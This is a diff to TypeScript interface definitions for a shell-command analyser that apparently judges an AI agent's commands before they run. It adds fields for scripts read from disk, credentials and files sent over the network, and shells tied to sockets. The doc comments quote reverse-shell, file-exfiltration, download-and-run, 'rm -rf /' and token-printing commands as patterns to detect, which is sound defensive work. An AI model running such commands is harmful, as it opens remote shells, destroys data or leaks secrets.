@@ -139,6 +139,19 @@ export interface ShellCommand {
    * the line (`echo ... > q.sql && psql -f q.sql`, also as `--file=q.sql`). In operand order.
    */
   readonly inputs?: readonly string[];
+  /**
+   * Where the command is written when it comes from a file read from disk at hook time (a script,
+   * a Makefile recipe, a package.json script, a git hook) or from code a call stores for a tool to
+   * run later: the file as shown in messages (relative to the project when inside it) and the line.
+   * A command nested in such a command (`bash -c` in a recipe) has the line of the command it is in.
+   */
+  readonly origin?: CommandOrigin;
+}
+
+/** A file and line a command is written on (see {@link ShellCommand.origin}). */
+export interface CommandOrigin {
+  readonly file: string;
+  readonly line: number;
 }
 
 /** A language whose code lanes can recognise being executed. */
@@ -162,15 +175,28 @@ export interface CodeExecution {
    * - `literal`: a static string in the command (`-c`, `-e`, heredoc, herestring, echo piped in);
    * - `stdin`: the output of other commands, piped in;
    * - `process-substitution` / `command-substitution`: the output of the commands inside;
-   * - `file`: a script file named on the command line (not analysed);
+   * - `file`: a script file named on the command line, not read (no disk is known: a pure
+   *   evaluation, or its path is only known at run time);
+   * - `disk`: a file read from disk at hook time (`bash x.sh`, a Makefile recipe, a package.json
+   *   script, a git hook), or code a call stores for a tool to run later; `code` is its text and
+   *   `path` the file as shown in messages;
    * - `written-file`: a file written earlier on the same line whose text is not static (a
    *   download: `curl -o f URL && sh f`); `producers` are the commands that wrote it;
    * - `dynamic`: a run-time value (a variable).
    */
   readonly source:
-    "literal" | "stdin" | "process-substitution" | "command-substitution" | "file" | "written-file" | "dynamic";
-  /** The code itself when `source` is `literal`. */
+    | "literal"
+    | "stdin"
+    | "process-substitution"
+    | "command-substitution"
+    | "file"
+    | "written-file"
+    | "dynamic"
+    | "disk";
+  /** The code itself when `source` is `literal` or `disk`. */
   readonly code: string | undefined;
+  /** With `disk`: the file the code was read from, as shown in messages. */
+  readonly path?: string;
   /** Indices of the commands whose output becomes the code (for `stdin` and substitutions). */
   readonly producers: readonly number[];
 }
@@ -193,6 +219,12 @@ export interface InterpreterCall {
   readonly overwrite?: boolean;
   /** The static string arguments found in the call, in order; `undefined` for dynamic ones. */
   readonly args: readonly (string | undefined)[];
+  /**
+   * Per argument, when one is a pattern for the entries of a listing (`os.path.join(d, f)` for
+   * each `f` of `os.listdir(d)` is `d/*`), and whether a test the analysis does not follow selects
+   * among them (`filtered`). Absent when no argument is a pattern.
+   */
+  readonly details?: readonly { readonly glob?: boolean; readonly filtered?: boolean }[];
 }
 
 /** A shell function defined in the command string. */
@@ -319,6 +351,27 @@ export interface ShellAnalysis {
   readonly written: readonly WrittenText[];
   /** True when the analysis stopped at its node or depth budget (a count, never the clock); the policy answers "ask". */
   readonly budgetExceeded: boolean;
+  /** The files read from disk at hook time for the code they hold, in the order they were asked for (`lanes check` shows them). */
+  readonly reads: readonly FileRead[];
+}
+
+/**
+ * A file the analysis looked for on disk because a command runs the code in it (a script, a
+ * Makefile, a package.json, a git hook) or a call stores code in it.
+ */
+export interface FileRead {
+  /** The file as shown in messages (relative to the project when inside it, `~/` under the home). */
+  readonly path: string;
+  /** What the file is read as (`shell script`, `Makefile`, `package.json scripts`, `git hook`). */
+  readonly as: string;
+  /**
+   * `read`: its code was judged; `missing`: there is no such file (nothing runs); `skipped`: a file
+   * lanes does not read as code (a compiled program, a hook git does not run); `unread`: it could
+   * not be read (too large, unreadable, past the bounds), which is judged as unknown code.
+   */
+  readonly outcome: "read" | "missing" | "skipped" | "unread";
+  /** Why it was skipped or unread; for `read`, what ran from it (`target clean`). */
+  readonly detail?: string;
 }
 
 /** Options of {@link analyzeShell}. */
@@ -337,6 +390,11 @@ export interface AnalyzeOptions {
   readonly budgetMs?: number;
   /** The repository root, the output of `git rev-parse --show-toplevel` (`undefined`: unknown). */
   readonly repoRoot?: string;
+  /**
+   * The file system ignores case (macOS, Windows: the policy's `case_insensitive_paths`): a program
+   * named in other cases is that program (`RM -rf /`, `Sudo rm`), recorded under its lowercased name.
+   */
+  readonly caseInsensitive?: boolean;
   /** Maximum number of AST nodes visited (default 20 000). */
   readonly maxNodes?: number;
   /**
@@ -385,6 +443,25 @@ export interface NetworkSend {
    */
   readonly stdinFrom: readonly number[];
   /**
+   * Run-time variables in the request's credentials: header and authentication options (`-H
+   * "Authorization: Bearer $GITHUB_TOKEN"`, `-u "ci:$TOKEN"`, `--oauth2-bearer`, httpie
+   * `Header:value` items and `-a`). A token there authenticates the request: it goes to the peer.
+   */
+  readonly credentials?: readonly string[];
+  /**
+   * Local files whose content goes to the peer: `curl -T f`, `-F x=@f`, `-d @f`, `wget
+   * --post-file f`, httpie `field@f` and `@f`, `scp f host:`, `rsync f host:`, `nc host port < f`,
+   * `cat f | nc host port`, `cat f > /dev/tcp/host/port`. Absent when none is.
+   */
+  readonly files?: readonly ShellWord[];
+  /** The request method when the command names it (`curl -X DELETE`, `http DELETE URL`), uppercased. */
+  readonly method?: string;
+  /**
+   * A shell on this machine is tied to the socket: its input or output is the peer (`bash -i >&
+   * /dev/tcp/host/port 0>&1`, `bash < /dev/tcp/host/port`), so the peer runs commands here.
+   */
+  readonly shell?: boolean;
+  /**
    * True for a command whose output is shown in the transcript rather than sent to a network peer
    * (`echo $TOKEN`, `gh auth token`, `printenv | grep -i token`): the model reads it. `env` then
    * holds the run-time variables it prints, `environment` says it prints the environment picked
@@ -399,9 +476,12 @@ export interface FileEffect {
   readonly command: number;
   /**
    * `use`: the program consumes the file without showing its content (a key or certificate for a
-   * TLS connection or a signature: `curl --key`, `openssl req -key`, `scp -i`, `ssh-add`).
+   * TLS connection or a signature: `curl --key`, `openssl req -key`, `scp -i`, `ssh-add`);
+   * `list`: it shows the names in a directory, not their content (`ls ~/.ssh`, `find ~/.aws`,
+   * `tree`); `share`: it hands the content to a program whose behaviour is not known, which may
+   * show or send it (`docker run --env-file .env someone/tool`).
    */
-  readonly access: "read" | "write" | "delete" | "chmod" | "chown" | "exec" | "use";
+  readonly access: "read" | "write" | "delete" | "chmod" | "chown" | "exec" | "use" | "list" | "share";
   /** The path operand (may be dynamic or a glob). */
   readonly path: ShellWord;
   /** True for recursive operations (`rm -r`, `chmod -R`, `find -delete`, `cp -r` targets). */
